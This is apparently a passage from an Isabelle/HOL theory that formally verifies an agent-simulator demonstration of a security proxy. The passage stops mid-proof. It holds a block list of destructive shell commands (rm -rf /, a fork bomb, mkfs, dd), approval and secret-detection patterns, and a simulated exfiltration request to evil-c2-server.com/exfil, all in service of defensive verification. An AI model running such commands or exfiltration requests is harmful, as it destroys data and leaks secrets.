(* ===== verification/Agent_Demo.thy ===== *)
theory Agent_Demo
  imports App Demo
begin

text \<open>
  The agent demonstration: the agent simulator in front of the main application and the forward proxy,
  with the echo server as the agent's backend, under the configuration demo/parachute.demo.yaml.
\<close>

section \<open>Client and application\<close>

definition as_received :: "Request \<Rightarrow> ProxyRequest" where
  "as_received r =
     \<lparr>rq_Method = rq_Method r, rq_Host = rq_Host r, rq_Path = rq_Path r, rq_Query = rq_Query r, rq_IP = rq_IP r,
      rq_Headers = rq_Headers r, rq_Body = rq_Body r,
      rq_OriginalURL = rq_Path r @ (if rq_Query r = [] then [] else CHR ''?'' # rq_Query r)\<rparr>"

text \<open>The answer as the client gets it; \<open>others\<close> is what it gets where the framework answers.\<close>

definition app_response :: "(gomap \<Rightarrow> string) \<Rightarrow> (app_reply \<Rightarrow> HttpResponse) \<Rightarrow> headers \<times> app_reply \<Rightarrow> HttpResponse" where
  "app_response encode others answer =
     (case snd answer of
        Answered (Answer a) \<Rightarrow> (respond_answer encode a)\<lparr>hr_Headers := set_headers (an_Headers a) (fst answer)\<rparr>
      | Answered (Streamed status hs text) \<Rightarrow>
          \<lparr>hr_Status = status, hr_Headers = set_headers hs (fst answer), hr_Body = Inr text\<rparr>
      | reply \<Rightarrow> others reply)"

definition app_server :: "(gomap \<Rightarrow> string) \<Rightarrow> (app_reply \<Rightarrow> HttpResponse) \<Rightarrow> web \<Rightarrow> program \<Rightarrow> app_state \<Rightarrow> Request \<Rightarrow> HttpResponse" where
  "app_server encode others wb pg s r = app_response encode others (fst (main_app wb pg (as_received r) s))"

text \<open>What the demonstration uses of the framework.\<close>

definition routes_law :: "web \<Rightarrow> bool" where
  "routes_law wb \<longleftrightarrow>
     (\<forall>r. HasPrefix (rq_Path r) ''/proxy/'' \<longrightarrow> wb_route wb r = Proxy_route) \<and>
     (\<forall>r. rq_Path r = ''/api/pending'' \<and> rq_Method r = ''GET'' \<longrightarrow> wb_route wb r = API_route (Some ListPending_call)) \<and>
     (\<forall>r. rq_Method r \<noteq> ''OPTIONS'' \<longrightarrow> snd (wb_cors wb r) = None) \<and>
     (\<forall>r. \<not> has_header (rq_Headers r) ''Upgrade'' \<longrightarrow> \<not> pe_upgrade (wb_proxy wb) r)"

section \<open>The configuration\<close>

text \<open>The decoded file demo/parachute.demo.yaml.\<close>

definition agent_demo_yaml :: Config where
  "agent_demo_yaml = (let bs = [backslash] in blank_config\<lparr>
     cf_Auth := (cf_Auth blank_config)\<lparr>au_Username := ''admin'', au_PasswordEnv := ''PARACHUTE_PASSWORD''\<rparr>,
     cf_RiskPolicy := (cf_RiskPolicy blank_config)\<lparr>
       rp_BlockCommands :=
         [''rm -rf /'', ''rm -rf ~'', '':(){ :|:& };:'', ''mkfs'' @ bs @ ''.'', ''dd if=/dev/(zero|random) of=/dev/[sh]d''],
       rp_RequireApproval :=
         [bs @ ''brm'' @ bs @ ''b'', bs @ ''bssh'' @ bs @ ''b'', bs @ ''bcurl'' @ bs @ ''b.*(-X|--request).*POST'',
          bs @ ''bwget'' @ bs @ ''b'', bs @ ''bsudo'' @ bs @ ''b'', bs @ ''bgit'' @ bs @ ''b.*(push|force)'']\<rparr>,
     cf_Egress := (cf_Egress blank_config)\<lparr>
       eg_AllowDomains :=
         [''api.anthropic.com'', ''api.openai.com'', ''github.com'', ''*.githubusercontent.com'', ''pypi.org'', ''npmjs.com''],
       eg_PIIPatterns :=
         [bs @ ''b4[0-9]{12}(?:[0-9]{3})?'' @ bs @ ''b'', bs @ ''b5[1-5][0-9]{14}'' @ bs @ ''b'',
          ''-----BEGIN (?:RSA |DSA |EC |OPENSSH )?PRIVATE KEY-----'', ''AKIA[0-9A-Z]{16}'', ''gh[pous]_[a-zA-Z0-9]{36}'']\<rparr>,
     cf_Storage := \<lparr>sc_Type = ''memory'', sc_Path = []\<rparr>,
     cf_Upstream := ''http://echo-server:8080'', cf_Listen := '':8080'', cf_ProxyListen := '':8888''\<rparr>)"

lemma agent_demo_config:
  assumes "Load read_file (\<lambda>_. Inr agent_demo_yaml) compile path = Inr cfg"
  shows "cf_Auth cfg = cf_Auth agent_demo_yaml" "\<not> cf_ToolInterception cfg" "cf_Upstream cfg = ''http://echo-server:8080''"
    "\<not> bc_Enabled (cf_Broker cfg)" "eg_Mode (cf_Egress cfg) = ''enforce''"
    "eg_AllowDomains (cf_Egress cfg) = eg_AllowDomains (cf_Egress agent_demo_yaml)"
    "eg_Rules (cf_Egress cfg) =
       [\<lparr>er_Domains = eg_AllowDomains (cf_Egress agent_demo_yaml), er_Label = ''legacy'', er_Action = ''allow''\<rparr>]"
proof -
  from assms obtain raw rp eg where c: "Inr agent_demo_yaml = (Inr raw :: string + Config)"
    "Egress_Compile compile (cf_Egress (set_defaults raw)) = Inr eg"
    "cfg = (set_defaults raw)\<lparr>cf_RiskPolicy := rp, cf_Egress := eg\<rparr>" by (rule Load_InrE)
  have raw: "raw = agent_demo_yaml" using c(1) by simp
  from Egress_Compile_frame [OF c(2)]
  show "cf_Auth cfg = cf_Auth agent_demo_yaml" "\<not> cf_ToolInterception cfg" "cf_Upstream cfg = ''http://echo-server:8080''"
    "\<not> bc_Enabled (cf_Broker cfg)" "eg_Mode (cf_Egress cfg) = ''enforce''"
    "eg_AllowDomains (cf_Egress cfg) = eg_AllowDomains (cf_Egress agent_demo_yaml)"
    "eg_Rules (cf_Egress cfg) =
       [\<lparr>er_Domains = eg_AllowDomains (cf_Egress agent_demo_yaml), er_Label = ''legacy'', er_Action = ''allow''\<rparr>]"
    by (simp_all add: c(3) raw set_defaults_def agent_demo_yaml_def blank_config_def default_to_def Let_def)
qed

section \<open>A request of the simulator at the application\<close>

lemma header_get_fold_del:
  "\<not> list_ex (\<lambda>k'. same_name k' k) ks \<Longrightarrow> header_get (fold header_del ks hs) k = header_get hs k"
proof (induction ks arbitrary: hs)
  case (Cons k0 ks)
  have "header_get (header_del k0 hs) k = header_get hs k"
    using Cons.prems header_get_set_other [of k0 k "[]" hs]
    by (cases "has_header hs k") (auto simp: header_set_def header_get_append header_get_none)
  with Cons show ?case by simp
qed simp

lemma strip_request_keeps:
  assumes "list_all (\<lambda>k'. \<not> same_name k' k) (''X-Real-Client-IP'' # headersToStrip)"
  shows "header_get (rq_Headers (strip_request r)) k = header_get (rq_Headers r) k"
    "has_header (rq_Headers (strip_request r)) k \<longleftrightarrow> has_header (rq_Headers r) k"
proof -
  have n: "\<not> list_ex (\<lambda>k'. same_name k' k) headersToStrip" "\<not> same_name ''X-Real-Client-IP'' k"
    using assms by (auto simp: list_ex_iff list_all_iff)
  show "header_get (rq_Headers (strip_request r)) k = header_get (rq_Headers r) k"
    using header_get_fold_del [OF n(1)] n(2)
    by (simp add: strip_request_def StripForwardedHeaders_def header_get_set_other Request.truncate_def)
  show "has_header (rq_Headers (strip_request r)) k \<longleftrightarrow> has_header (rq_Headers r) k"
    using n by (simp add: strip_request_def StripForwardedHeaders_def has_header_fold_del Request.truncate_def)
qed

lemma strip_request_frame [simp]:
  "rq_Method (strip_request r) = rq_Method r" "rq_Path (strip_request r) = rq_Path r"
  "rq_Body (strip_request r) = rq_Body r" "rq_IP (strip_request r) = rq_IP r"
  "rq_OriginalURL (strip_request r) = rq_OriginalURL r"
  by (simp_all add: strip_request_def)

lemma unstripped_names:
  "list_all (\<lambda>k. list_all (\<lambda>k'. \<not> same_name k' k) (''X-Real-Client-IP'' # headersToStrip)) [''Authorization'', ''Upgrade'', ''Accept'']"
  by code_simp

text \<open>The simulator's requests carry its credentials and neither ask for an upgrade nor for a stream.\<close>

definition simulator_request :: "agent_env \<Rightarrow> Request \<Rightarrow> bool" where
  "simulator_request en r \<longleftrightarrow> header_get (rq_Headers r) ''Authorization'' = snd (basic_auth en) \<and>
     \<not> has_header (rq_Headers r) ''Upgrade'' \<and> header_get (rq_Headers r) ''Accept'' = []"

lemma arrives_simulator:
  assumes "arrives out path r" "og_Headers out = hs @ [basic_auth en]" "hs = [] \<or> (\<exists>v. hs = [(''Content-Type'', v)])"
  shows "simulator_request en r"
proof -
  have names: "\<not> same_name ''Content-Type'' ''Authorization''" "\<not> same_name ''Authorization'' ''Upgrade''"
    "\<not> same_name ''Content-Type'' ''Upgrade''" "\<not> same_name ''Authorization'' ''Accept''" "\<not> same_name ''Content-Type'' ''Accept''"
    "\<not> list_ex (same_name ''Upgrade'') library_headers" "\<not> list_ex (same_name ''Accept'') library_headers"
    by code_simp+
  obtain v where a: "basic_auth en = (''Authorization'', v)" by (simp add: basic_auth_def)
  have sent: "has_header (og_Headers out) ''Authorization''" "header_get (og_Headers out) ''Authorization'' = v"
    "\<not> has_header (og_Headers out) ''Upgrade''" "\<not> has_header (og_Headers out) ''Accept''"
    using assms(2,3) names by (auto simp: a header_get_def has_header_def)
  have "\<not> has_header (rq_Headers r) ''Upgrade''" "\<not> has_header (rq_Headers r) ''Accept''"
    using assms(1) sent(3,4) names(6,7) by (auto simp: arrives_def)
  moreover have "header_get (rq_Headers r) ''Authorization'' = v" using assms(1) sent(1,2) by (simp add: arrives_def)
  ultimately show ?thesis by (simp add: simulator_request_def a header_get_none)
qed

text \<open>The simulator's credentials are those of the program.\<close>

definition knows_password :: "agent_env \<Rightarrow> web \<Rightarrow> AuthConfig \<Rightarrow> bool" where
  "knows_password en wb cfg \<longleftrightarrow> authUser en = au_Username cfg \<and> authPass en = Password (wb_getenv wb) cfg"

lemma simulator_admitted:
  assumes "simulator_request en r" "knows_password en wb cfg" "au_AllowedIPs cfg = []" "CHR '':'' \<notin> set (au_Username cfg)"
  shows "middleware_answer (Auth (wb_getenv wb) cfg cid (Request.truncate (strip_request (as_received r)))) = None"
proof -
  have "header_get (rq_Headers (strip_request (as_received r))) ''Authorization'' = snd (basic_auth en)"
    using assms(1) strip_request_keeps [of "''Authorization''"] unstripped_names
    by (simp add: simulator_request_def as_received_def)
  moreover have "basic_ok (au_Username cfg) (Password (wb_getenv wb) cfg) (snd (basic_auth en))"
    using assms(2,4) basic_ok_encoded [of "au_Username cfg" "au_Username cfg" "Password (wb_getenv wb) cfg"]
    by (simp add: basic_auth_def knows_password_def)
  ultimately show ?thesis
    using assms(3) by (simp add: middleware_answer_None Auth_iff ip_allowed_def Request.truncate_def)
qed

lemma simulator_request_plain:
  assumes "simulator_request en r" "routes_law wb"
  shows "\<not> pe_upgrade (wb_proxy wb) (strip_request (as_received r))"
    "\<not> isStreamingRequest (rq_Headers (strip_request (as_received r)))"
proof -
  have "\<not> has_header (rq_Headers (strip_request (as_received r))) ''Upgrade''"
    "header_get (rq_Headers (strip_request (as_received r))) ''Accept'' = []"
    using assms(1) strip_request_keeps [of "''Upgrade''"] strip_request_keeps [of "''Accept''"] unstripped_names
    by (simp_all add: simulator_request_def as_received_def)
  then show "\<not> pe_upgrade (wb_proxy wb) (strip_request (as_received r))"
    "\<not> isStreamingRequest (rq_Headers (strip_request (as_received r)))"
    using assms(2) by (simp_all add: routes_law_def isStreamingRequest_def)
qed

text \<open>With its credentials a request to the proxy is handled without a check of its tool call.\<close>

lemma simulator_proxied:
  assumes "Load read_file (\<lambda>_. Inr agent_demo_yaml) compile path = Inr cfg" "start_program pen cfg = Inr pg"
    and "routes_law wb" "knows_password en wb (cf_Auth cfg)" "simulator_request en r"
    and "HasPrefix (rq_Path r) ''/proxy/''" "rq_Method r \<noteq> ''OPTIONS''" "rq_Body r \<noteq> []"
  shows "\<exists>hs s'. fst (main_app wb pg (as_received r) s) =
    (hs, Answered (if cr_Allowed (CheckContent (cf_Egress cfg) (rq_Body r))
      then fst (handleStandardRequest (wb_proxy wb) (pg_reverse pg) (strip_request (as_received r)) (as_proxy s))
      else Answer (json_answer 403
              [(''error'', JStr ''request blocked''), (''reason'', JStr (cr_Reason (CheckContent (cf_Egress cfg) (rq_Body r)))),
               (''pattern'', JStr (cr_Pattern (CheckContent (cf_Egress cfg) (rq_Body r))))])))"
proof -
  let ?r = "strip_request (as_received r)"
  note cf = agent_demo_config [OF assms(1)]
  have pg: "pg_reverse pg = NewReverseProxy cfg" "pg_config pg = cfg"
    using assms(2) by (auto simp: start_program_def split: if_splits sum.splits)
  have auth: "middleware_answer (Auth (wb_getenv wb) (cf_Auth cfg) cid (Request.truncate ?r)) = None" for cid
    by (rule simulator_admitted [OF assms(5,4)]) (simp_all add: cf(1) agent_demo_yaml_def blank_config_def Let_def)
  have r: "wb_route wb ?r = Proxy_route" "snd (wb_cors wb ?r) = None"
    using assms(3,6,7) by (simp_all add: routes_law_def as_received_def)
  obtain cid ry where c: "CorrelationID (wb_fresh wb) (Request.truncate ?r) = (cid, ry)" by fastforce
  obtain ch where ch: "wb_cors wb ?r = (ch, None)" using r(2) by (cases "wb_cors wb ?r") simp
  have body: "rq_Body (as_received r) = rq_Body r" by (simp add: as_received_def)
  show ?thesis
    using assms(8) simulator_request_plain [OF assms(5,3)] cf(2)
    by (simp add: main_app_def c ch dispatch_def r(1) proxy_group_def pg auth Proxy_Handler_def NewReverseProxy_def
        forward_request_def body Let_def split: prod.split)
qed

section \<open>The scripted events\<close>

lemma echoed:
  assumes "Load read_file (\<lambda>_. Inr agent_demo_yaml) compile path = Inr cfg" "start_program pen cfg = Inr pg"
    and "reaches (pe_http (wb_proxy wb)) ''http://echo-server:8080'' (\<lambda>r. respond echo_encode page (echo_server r))"
    and "rq_Path r = ''/proxy/tool_call''" "rq_Query r = []"
  shows "\<exists>a. fst (handleStandardRequest (wb_proxy wb) (pg_reverse pg) (strip_request (as_received r)) ps) = Answer a \<and> an_Status a = 200"
proof -
  let ?r = "strip_request (as_received r)" and ?p = "pg_reverse pg"
  let ?out = "proxy_outgoing ?p ?r"
  have pg: "?p = NewReverseProxy cfg" using assms(2) by (auto simp: start_program_def split: if_splits sum.splits)
  have path: "proxy_path ''/proxy/tool_call'' = ''/tool_call''" "cleanPath ''/tool_call'' = ''/tool_call''"
    "HasPrefix ''/tool_call'' ''/'' \<and> CHR ''?'' \<notin> set ''/tool_call''" by code_simp+
  have "og_URL ?out = ''http://echo-server:8080'' @ ''/tool_call''"
    using assms(4,5) by (simp add: proxy_outgoing_def pg NewReverseProxy_def agent_demo_config(3) [OF assms(1)] as_received_def path(1))
  with assms(3) path(3) obtain r' where r': "arrives ?out ''/tool_call'' r'"
    "hc_do (pe_http (wb_proxy wb)) ?out = Inr (respond echo_encode page (echo_server r'))"
    unfolding reaches_def by blast
  have "sa_Status (echo_server r') = 200" using r'(1) path(2) by (simp add: arrives_def echo_server_def)
  then show ?thesis using r'(2) assms(3) by (simp add: handleStandardRequest_def reaches_def respond_def Let_def)
qed

lemma tool_call_allowed:
  assumes "Load read_file (\<lambda>_. Inr agent_demo_yaml) compile path = Inr cfg" "start_program pen cfg = Inr pg"
    and "routes_law wb" "knows_password en wb (cf_Auth cfg)"
    and "reaches (pe_http (wb_proxy wb)) ''http://echo-server:8080'' (\<lambda>r. respond echo_encode page (echo_server r))"
    and "reaches (ag_client en) (parachuteURL en) (app_server encode others wb pg s)"
    and "ag_marshal en (tool_payload tool command) \<noteq> []"
    and "cr_Allowed (CheckContent (cf_Egress cfg) (ag_marshal en (tool_payload tool command)))"
  shows "sendToolCall en tool command = (None, result_line ''Allowed (HTTP 200)'')"
proof -
  let ?out = "tool_request en tool command" and ?path = "''/proxy/tool_call''"
  have "HasPrefix ?path ''/'' \<and> CHR ''?'' \<notin> set ?path" by code_simp
  then obtain r where r: "arrives ?out ?path r" "hc_do (ag_client en) ?out = Inr (app_server encode others wb pg s r)"
    using assms(6) unfolding reaches_def by (metis Outgoing.select_convs(2) tool_request_def)
  have sim: "simulator_request en r" using r(1) by (rule arrives_simulator) (simp add: tool_request_def, blast)
  have req: "rq_Path r = ?path" "rq_Query r = []" "rq_Method r = ''POST''" "rq_Body r = ag_marshal en (tool_payload tool command)"
    using r(1) by (simp_all add: arrives_def tool_request_def)
  have "HasPrefix ?path ''/proxy/''" by code_simp
  with simulator_proxied [OF assms(1-4) sim, of s] req assms(7,8) obtain hs where
    "fst (main_app wb pg (as_received r) s) =
      (hs, Answered (fst (handleStandardRequest (wb_proxy wb) (pg_reverse pg) (strip_request (as_received r)) (as_proxy s))))"
    by auto
  with echoed [OF assms(1,2,5) req(1,2), of "as_proxy s"] have "hr_Status (app_server encode others wb pg s r) = 200"
    by (auto simp: app_server_def app_response_def respond_answer_def)
  moreover have "nat_dec 200 = ''200''" by code_simp
  ultimately show ?thesis by (simp add: sendToolCall_def r(2) Let_def)
qed

lemma PII_refused:
  assumes "Load read_file (\<lambda>_. Inr agent_demo_yaml) compile path = Inr cfg" "start_program pen cfg = Inr pg"
    and "routes_law wb" "knows_password en wb (cf_Auth cfg)"
    and "reaches (ag_client en) (parachuteURL en) (app_server encode others wb pg s)"
    and "content \<noteq> []" "\<not> cr_Allowed (CheckContent (cf_Egress cfg) content)"
  shows "\<exists>text. sendBodyWithPII en content = (None, result_line (''PII Detection (HTTP 403): '' @ text))"
proof -
  let ?out = "pii_request en content" and ?path = "''/proxy/api/data''"
  have "HasPrefix ?path ''/'' \<and> CHR ''?'' \<notin> set ?path" by code_simp
  then obtain r where r: "arrives ?out ?path r" "hc_do (ag_client en) ?out = Inr (app_server encode others wb pg s r)"
    using assms(5) unfolding reaches_def by (metis Outgoing.select_convs(2) pii_request_def)
  have sim: "simulator_request en r" using r(1) by (rule arrives_simulator) (simp add: pii_request_def, blast)
  have req: "rq_Path r = ?path" "rq_Method r = ''POST''" "rq_Body r = content"
    using r(1) by (simp_all add: arrives_def pii_request_def)
  have "HasPrefix ?path ''/proxy/''" by code_simp
  with simulator_proxied [OF assms(1-4) sim, of s] req assms(6,7) obtain hs m where
    "fst (main_app wb pg (as_received r) s) = (hs, Answered (Answer (json_answer 403 m)))" by auto
  then have "hr_Status (app_server encode others wb pg s r) = 403"
    by (simp add: app_server_def app_response_def respond_answer_def json_answer_def)
  moreover have "nat_dec 403 = ''403''" by code_simp
  ultimately show ?thesis by (simp add: sendBodyWithPII_def r(2) Let_def, blast)
qed

text \<open>The list of pending commands is an object, also where it is refused; the simulator wants a list.\<close>

lemma middleware_answer_json: "middleware_answer ry = Some a \<Longrightarrow> \<exists>m. an_Body a = JsonBody m"
  by (auto simp: middleware_answer_def error_answer_def json_answer_def split: verdict.splits)

lemma pending_is_object: "\<exists>a m. fst (api_routes wb cfg cid (Some ListPending_call) r s) = Answered (Answer a) \<and> an_Body a = JsonBody m"
  using middleware_answer_json
  by (fastforce simp: api_routes_def api_group_def go_reply_def APIRoutes_def api_list_def json_answer_def Let_def
      split: prod.split option.split)

lemma approval_fails:
  assumes "routes_law wb" "reaches (ag_client en) (parachuteURL en) (app_server encode others wb pg s)"
    and "\<forall>m. \<exists>e. ag_decode_list en (encode m) = Inl e"
  shows "\<exists>e. autoApproveFirst en = (Some (''failed to parse pending list: '' @ e), [])"
proof -
  let ?out = "pending_request en" and ?path = "''/api/pending''"
  have "HasPrefix ?path ''/'' \<and> CHR ''?'' \<notin> set ?path" by code_simp
  then obtain r where r: "arrives ?out ?path r" "hc_do (ag_client en) ?out = Inr (app_server encode others wb pg s r)"
    using assms(2) unfolding reaches_def by (metis Outgoing.select_convs(2) pending_request_def)
  let ?r = "strip_request (as_received r)"
  have "rq_Path ?r = ?path" "rq_Method ?r = ''GET''" using r(1) by (simp_all add: arrives_def pending_request_def as_received_def)
  then have route: "wb_route wb ?r = API_route (Some ListPending_call)" "snd (wb_cors wb ?r) = None"
    using assms(1) by (simp_all add: routes_law_def)
  obtain cid ry where c: "CorrelationID (wb_fresh wb) (Request.truncate ?r) = (cid, ry)" by fastforce
  obtain ch where ch: "wb_cors wb ?r = (ch, None)" using route(2) by (cases "wb_cors wb ?r") simp
  obtain reply rl q where api: "api_routes wb (cf_Auth (pg_config pg)) cid (Some ListPending_call) ?r
      (as_limiter s, ps_queue (as_proxy s)) = (reply, rl, q)" by (metis surj_pair)
  then obtain a m where "reply = Answered (Answer a)" "an_Body a = JsonBody m"
    using pending_is_object [of wb "cf_Auth (pg_config pg)" cid ?r "(as_limiter s, ps_queue (as_proxy s))"] by auto
  then have "hr_Body (app_server encode others wb pg s r) = Inr (encode m)"
    by (simp add: app_server_def main_app_def c ch dispatch_def route(1) api app_response_def respond_answer_def Let_def)
  moreover obtain e where "ag_decode_list en (encode m) = Inl e" using assms(3) by blast
  ultimately show ?thesis by (simp add: autoApproveFirst_def r(2) read_all_def)
qed

lemma exfiltration_refused:
  assumes "Load read_file (\<lambda>_. Inr agent_demo_yaml) compile path = Inr cfg" "start_program pen cfg = Inr pg"
    and "hostname (rr_URL req) = Inr ''evil-c2-server.com''" "rr_IsAbs req"
  shows "\<exists>hs text. sr_written (handleHTTPRequest hostname fhc (pg_forward pg) req) = Wrote 403 hs text"
proof -
  let ?host = "''evil-c2-server.com''" and ?domains = "eg_AllowDomains (cf_Egress agent_demo_yaml)"
  note cf = agent_demo_config [OF assms(1)]
  have pg: "pg_forward pg = NewForwardProxy cfg (start_matcher cfg) (pg_telemetry pg \<noteq> None)"
    using start_program_parts [OF assms(2)] by simp
  have "\<not> list_ex (matchDomain ?host) ?domains" "\<not> list_ex (domain_entry_allows (ToLower ?host)) ?domains" by code_simp+
  then have "\<not> cr_Allowed (CheckURL hostname (cf_Egress cfg) (rr_URL req))"
    by (simp add: CheckURL_def assms(3) check_host_Allowed cf(6,7) rule_matches_def IsDomainAllowed_def)
  then show ?thesis
    using assms(4) cf(4,5)
    by (auto simp: handleHTTPRequest_def target_url_def check_destination_def server_refused_def checkManagedHost_def
        pg NewForwardProxy_def start_matcher_def isRecordMode_def Let_def split: prod.split)
qed

lemma egress_unexpected:
  assumes "Load read_file (\<lambda>_. Inr agent_demo_yaml) compile path = Inr cfg" "start_program pen cfg = Inr pg"
    and "uses_proxy (ag_proxy_client en) (handleHTTPRequest hostname fhc (pg_forward pg))"
    and "hostname ''http://evil-c2-server.com/exfil'' = Inr ''evil-c2-server.com''" "\<forall>url. ag_parse_error en url = None"
  shows "sendEgressAttempt en ''http://evil-c2-server.com/exfil'' = (None, result_line ''Egress HTTP 403 (unexpected)'')"
proof -
  let ?out = "\<lparr>og_Method = ''GET'', og_URL = ''http://evil-c2-server.com/exfil'', og_Headers = [], og_Body = []\<rparr>"
  have "og_URL ?out = ''http://'' @ ''evil-c2-server.com'' @ ''/exfil'' \<and> CHR ''/'' \<notin> set ''evil-c2-server.com'' \<and>
    HasPrefix ''/exfil'' ''/''" by code_simp
  then obtain req where req: "rr_IsAbs req" "rr_URL req = og_URL ?out"
    "hc_do (ag_proxy_client en) ?out = proxied_response (sr_written (handleHTTPRequest hostname fhc (pg_forward pg) req))"
    using assms(3) unfolding uses_proxy_def by meson
  have "hostname (rr_URL req) = Inr ''evil-c2-server.com''" using req(2) assms(4) by simp
  from exfiltration_refused [where hostname = hostname, OF assms(1,2) this req(1), of fhc] obtain hs msg where
    "hc_do (ag_proxy_client en) ?out = Inr \<lparr>hr_Status = 403, hr_Headers = hs, hr_Body = Inr msg\<rparr>"
    using req(3) by (auto simp: proxied_response_def)
  moreover have "nat_dec 403 = ''403''" by code_simp
  ultimately show ?thesis using assms(5) by (simp add: sendEgressAttempt_def)
qed

section \<open>Properties\<close>

text \<open>
  C28. What the agent demonstration shows: with the program running on the demonstration's configuration,
  which leaves the interception of tool calls off, every tool call of the simulator is let through and
  reported as allowed, also the ones it announces as blocked or as requiring approval; only what the
  PII patterns find is refused. Its approval step always fails, for it reads a list where the
  API answers an object, and the blocked egress attempt is reported as an unexpected answer.
\<close>

theorem agent_demo_outcome:
  assumes "program_main read_file (\<lambda>_. Inr agent_demo_yaml) compile pen False path = Running pg"
    and "routes_law wb" "knows_password en wb (cf_Auth (pg_config pg))"
    and "reaches (pe_http (wb_proxy wb)) ''http://echo-server:8080'' (\<lambda>r. respond echo_encode page (echo_server r))"
    and "reaches (ag_client en) (parachuteURL en) (app_server encode others wb pg s)"
    and "\<forall>m. ag_marshal en m \<noteq> []" "\<forall>m. \<exists>e. ag_decode_list en (encode m) = Inl e"
    and "uses_proxy (ag_proxy_client en) (handleHTTPRequest hostname fhc (pg_forward pg))"
    and "hostname ''http://evil-c2-server.com/exfil'' = Inr ''evil-c2-server.com''" "\<forall>url. ag_parse_error en url = None"
  shows "(cr_Allowed (CheckContent (cf_Egress (pg_config pg)) (ag_marshal en (tool_payload tool command))) \<longrightarrow>
      run_action en (Tool_call tool command) = (None, result_line ''Allowed (HTTP 200)'')) \<and>
    (\<exists>e. run_action en Auto_approve = (Some (''failed to parse pending list: '' @ e), [])) \<and>
    (content \<noteq> [] \<and> \<not> cr_Allowed (CheckContent (cf_Egress (pg_config pg)) content) \<longrightarrow>
      (\<exists>text. run_action en (Send_PII content) = (None, result_line (''PII Detection (HTTP 403): '' @ text)))) \<and>
    run_action en (Egress_to ''http://evil-c2-server.com/exfil'') = (None, result_line ''Egress HTTP 403 (unexpected)'')"
proof -
  obtain cfg where cfg: "Load read_file (\<lambda>_. Inr agent_demo_yaml) compile path = Inr cfg" "start_program pen cfg = Inr pg"
    "pg_config pg = cfg" using assms(1) by (rule program_mainE)
  have pass: "knows_password en wb (cf_Auth cfg)" using assms(3) cfg(3) by simp
  show ?thesis
    using tool_call_allowed [OF cfg(1,2) assms(2) pass assms(4,5), of tool command] assms(6)
      approval_fails [OF assms(2,5,7)] PII_refused [OF cfg(1,2) assms(2) pass assms(5), of content]
      egress_unexpected [where hostname = hostname, OF cfg(1,2) assms(8-10)]
    by (simp add: cfg(3))
qed

text \<open>The demonstration with a network for the example.\<close>

definition demo_web :: web where
  "demo_web = plain_web ''demo'' ((body_env [])
     \<lparr>pe_http := net_client ''http://echo-server:8080'' (\<lambda>r. respond (\<lambda>_. []) (\<lambda>u. u) (echo_server r))\<rparr>)"

definition demo_agent :: "program \<Rightarrow> agent_env" where
  "demo_agent pg =
     \<lparr>ag_getenv = (\<lambda>_. []),
      ag_client = net_client ''http://parachute:8080''
        (app_server (\<lambda>_. ''{...}'') (\<lambda>_. \<lparr>hr_Status = 500, hr_Headers = [], hr_Body = Inr []\<rparr>) demo_web pg (app_start pg)),
      ag_proxy_client = net_proxy_client (handleHTTPRequest (\<lambda>_. Inr ''evil-c2-server.com'') answering (pg_forward pg)),
      ag_parse_error = (\<lambda>_. None), ag_partial = (\<lambda>_. []), ag_marshal = (\<lambda>_. ''{...}''),
      ag_decode_list = (\<lambda>_. Inl ''cannot unmarshal object'')\<rparr>"

lemma agent_demo_runs:
  obtains pg where "program_main (\<lambda>_. Inr ''yaml'') (\<lambda>_. Inr agent_demo_yaml) letter_compile idle_env False ''config.yaml'' = Running pg"
    "cr_Allowed (CheckContent (cf_Egress (pg_config pg)) ''{...}'')" "cf_Auth (pg_config pg) = cf_Auth agent_demo_yaml"
proof -
  let ?load = "Load (\<lambda>_. Inr ''yaml'') (\<lambda>_. Inr agent_demo_yaml) letter_compile ''config.yaml''"
  have "case ?load of Inr cfg \<Rightarrow> cr_Allowed (CheckContent (cf_Egress cfg) ''{...}'') \<and> sc_Type (cf_Storage cfg) = ''memory'' \<and>
      \<not> tc_Enabled (cf_Telemetry cfg) | _ \<Rightarrow> False" by code_simp
  then obtain cfg where cfg: "?load = Inr cfg" "cr_Allowed (CheckContent (cf_Egress cfg) ''{...}'')"
    "sc_Type (cf_Storage cfg) = ''memory''" "\<not> tc_Enabled (cf_Telemetry cfg)" by (auto split: sum.splits)
  note auth = agent_demo_config(1) [OF cfg(1)]
  then have "\<exists>pg. start_program idle_env cfg = Inr pg \<and> pg_config pg = cfg"
    using cfg(3,4) by (simp add: start_program_def start_queue_def start_telemetry_def auth_settings_ok_def
        authConfigured_def agent_demo_yaml_def Let_def)
  then obtain pg where "start_program idle_env cfg = Inr pg" "pg_config pg = cfg" by blast
  with cfg(1,2) auth that show thesis by (simp add: program_main_def)
qed

theorem agent_demo_outcome_witness:
  "\<exists>pg. program_main (\<lambda>_. Inr ''yaml'') (\<lambda>_. Inr agent_demo_yaml) letter_compile idle_env False ''config.yaml'' = Running pg \<and>
     run_action (demo_agent pg) (Tool_call ''bash'' ''rm -rf /'') = (None, result_line ''Allowed (HTTP 200)'') \<and>
     run_action (demo_agent pg) (Egress_to ''http://evil-c2-server.com/exfil'') = (None, result_line ''Egress HTTP 403 (unexpected)'')"
proof -
  obtain pg where pg: "program_main (\<lambda>_. Inr ''yaml'') (\<lambda>_. Inr agent_demo_yaml) letter_compile idle_env False ''config.yaml'' = Running pg"
    "cr_Allowed (CheckContent (cf_Egress (pg_config pg)) ''{...}'')" "cf_Auth (pg_config pg) = cf_Auth agent_demo_yaml"
    by (rule agent_demo_runs)
  let ?en = "demo_agent pg" and ?others = "\<lambda>_. \<lparr>hr_Status = 500, hr_Headers = [], hr_Body = Inr []\<rparr>"
  have "plain_route r = Proxy_route" if "HasPrefix (rq_Path r) ''/proxy/''" for r
  proof -
    obtain t where "rq_Path r = ''/proxy/'' @ t" using \<open>HasPrefix (rq_Path r) ''/proxy/''\<close> by (rule HasPrefixE)
    then show ?thesis by (simp add: plain_route_def HasPrefix_def)
  qed
  then have 1: "routes_law demo_web"
    by (auto simp: routes_law_def demo_web_def plain_web_def body_env_def) (simp add: plain_route_def)
  have 2: "knows_password ?en demo_web (cf_Auth (pg_config pg))"
    by (simp add: knows_password_def pg(3) demo_agent_def demo_web_def plain_web_def authUser_def authPass_def getEnv_def
        agent_demo_yaml_def blank_config_def Password_def Let_def)
  have 3: "reaches (pe_http (wb_proxy demo_web)) ''http://echo-server:8080'' (\<lambda>r. respond (\<lambda>_. []) (\<lambda>u. u) (echo_server r))"
    unfolding demo_web_def plain_web_def by (simp add: net_client_reaches)
